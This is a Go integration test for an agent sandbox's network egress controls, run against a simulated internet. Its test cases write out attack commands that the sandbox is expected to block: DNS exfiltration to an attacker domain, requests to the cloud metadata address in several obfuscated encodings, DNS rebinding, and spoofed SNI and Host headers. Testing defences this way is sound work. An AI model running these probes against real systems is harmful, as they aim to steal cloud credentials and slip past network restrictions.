package integration

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentrun/agentrun/events"
)

const egressProfile = `name: egress
extends: [base]
network:
  allow: ["allowed.test:80,443", "rebind.test:80,443"]
env:
  set: {NODE_TLS_REJECT_UNAUTHORIZED: "0"}
`

// egressCase is one thing the agent tries on the fake internet.
type egressCase struct {
	name   string
	script string
	ok     bool
	want   string // in the output
	absent string // never in the output (a secret that must not arrive)
}

var egressCases = []egressCase{
	{name: "https to an allowed name", script: "curl -sSk https://allowed.test/", ok: true, want: "hello from allowed.test"},
	{name: "http to an allowed name", script: "curl -sS http://allowed.test/", ok: true, want: "hello from allowed.test"},
	{name: "python urllib", script: `python3 -c "import ssl,urllib.request; print(urllib.request.urlopen('https://allowed.test/', context=ssl._create_unverified_context()).read().decode())"`, ok: true, want: "hello from allowed.test"},
	{name: "git clone over https", script: "git -c http.sslVerify=false clone -q https://allowed.test/repo.git clone && git -C clone log --format=%s", ok: true, want: "from the fake internet"},
	{name: "node fetch", script: `node -e "fetch('https://allowed.test/').then(r => r.text()).then(console.log)"`, ok: true, want: "hello from allowed.test"},
	{name: "dns over tcp to the sandbox's resolver", script: "dig +tcp +short allowed.test", ok: true, want: "198.18.0.1"},
	{name: "a name not allowed", script: "curl -sSk https://evil.test/", want: "Could not resolve host"},
	{name: "dns exfiltration A", script: "dig +short secret.attacker.test; dig secret.attacker.test | grep -c NXDOMAIN", ok: true, want: "1"},
	{name: "dns exfiltration TXT", script: "dig TXT secret.attacker.test | grep -c NXDOMAIN", ok: true, want: "1"},
	{name: "dns to another server", script: "dig +time=1 +tries=1 @8.8.8.8 allowed.test", want: "timed out"},
	{name: "dns over tcp to another server", script: "dig +tcp +time=1 +tries=1 @" + inetAddr + " allowed.test", want: "refused"},
	{name: "metadata", script: "curl -sS -m 3 http://169.254.169.254/", absent: "metadata-secret-token"},
	{name: "metadata mapped v6", script: "curl -sS -m 3 'http://[::ffff:169.254.169.254]/'", absent: "metadata-secret-token"},
	{name: "metadata mapped hex v6", script: "curl -sS -m 3 'http://[::ffff:a9fe:a9fe]/'", absent: "metadata-secret-token"},
	{name: "metadata nat64", script: "curl -sS -m 3 'http://[64:ff9b::a9fe:a9fe]/'", absent: "metadata-secret-token"},
	{name: "metadata decimal", script: "curl -sS -m 3 http://2852039166/", absent: "metadata-secret-token"},
	{name: "metadata hex", script: "curl -sS -m 3 http://0xa9fea9fe/", absent: "metadata-secret-token"},
	{name: "metadata octal", script: "curl -sS -m 3 http://0251.0376.0251.0376/", absent: "metadata-secret-token"},
	{name: "metadata short form", script: "curl -sS -m 3 http://169.254.43518/", absent: "metadata-secret-token"},
	{name: "metadata name", script: "curl -sS -m 3 http://metadata.google.internal/", want: "Could not resolve host", absent: "metadata-secret-token"},
	{name: "metadata by rebinding", script: "curl -sS -m 3 http://rebind.test/", absent: "metadata-secret-token"},
	{name: "foreign SNI on an allowed address", script: "getent hosts allowed.test >/dev/null; curl -sSk -m 3 --resolve evil.test:443:" + inetAddr + " https://evil.test/", absent: "hello from evil.test"},
	{name: "foreign Host on an allowed address", script: "getent hosts allowed.test >/dev/null; curl -sS -m 3 -H 'Host: evil.test' http://" + inetAddr + "/", absent: "hello from evil.test"},
	{name: "quic to an allowed host", script: `getent hosts allowed.test >/dev/null; python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b'quic', ('allowed.test', 443)); s.recv(10)"`, want: "timed out"},
	{name: "ping", script: "ping -c1 -W1 " + inetAddr},
	{name: "the host's own address", script: "curl -sS -m 3 http://" + clientAddr + "/"},
}

func testEgress(t *testing.T, unprivileged bool) {
	r := newRunner(t, unprivileged)
	if unprivileged {
		usableTUN(t)
	}
	f := newFakeInternet(t)
	r.netns, r.resolv = f.client, f.resolv
	profile := filepath.Join(r.home, "egress.yaml")
	if err := os.WriteFile(profile, []byte(egressProfile), 0o644); err != nil {
		t.Fatal(err)
	}
	eventsFile := filepath.Join(r.ws, "events.jsonl")
	for _, tc := range egressCases {
		t.Run(tc.name, func(t *testing.T) {
			res := r.run(t, "--profile", profile, "--events", eventsFile, "--", "sh", "-c", tc.script)
			out := res.stdout + res.stderr
			if tc.ok != (res.code == 0) {
				t.Errorf("want success %v, got %s", tc.ok, res)
			}
			if tc.want != "" && !strings.Contains(out, tc.want) {
				t.Errorf("want %q in the output, got %s", tc.want, res)
			}
			if tc.absent != "" && strings.Contains(out, tc.absent) {
				t.Errorf("%q got through: %s", tc.absent, res)
			}
		})
	}
	f.checkAsked(t)
	b, err := os.ReadFile(eventsFile)
	if err != nil {
		t.Fatal(err)
	}
	// Each event, whichever layer made it (the network stack, the resolver), carries the run
	// and the profile: the launcher stamps them once.
	for i, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var e events.Event
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("events file line %d: %v: %s", i+1, err, line)
		}
		if e.RunID == "" || e.Profile != "egress" {
			t.Errorf("events file line %d: run %q, profile %q; want a run ID and egress: %s", i+1, e.RunID, e.Profile, line)
		}
	}
	for _, want := range []string{`"verdict":"denied","reason":"cloud-metadata`, `"name":"secret.attacker.test","protocol":"TXT","verdict":"denied"`, `"protocol":"udp"`, `names evil.test, not allowed.test`, clientAddr + "/32"} {
		if !strings.Contains(string(b), want) {
			t.Errorf("no event with %s", want)
		}
	}
}

// usableTUN gives /dev/net/tun the mode most distributions ship (0666) for the test, where
// this machine has it root-only, and puts the old mode back.
func usableTUN(t *testing.T) {
	t.Helper()
	fi, err := os.Stat("/dev/net/tun")
	if err != nil {
		t.Skipf("no TUN device: %v", err)
	}
	if fi.Mode().Perm() == 0o666 {
		return
	}
	if err := os.Chmod("/dev/net/tun", 0o666); err != nil {
		t.Skipf("cannot make /dev/net/tun usable: %v", err)
	}
	t.Cleanup(func() { _ = os.Chmod("/dev/net/tun", fi.Mode().Perm()) })
}

func TestEgressAsRoot(t *testing.T)       { testEgress(t, false) }
func TestEgressUnprivileged(t *testing.T) { testEgress(t, true) }
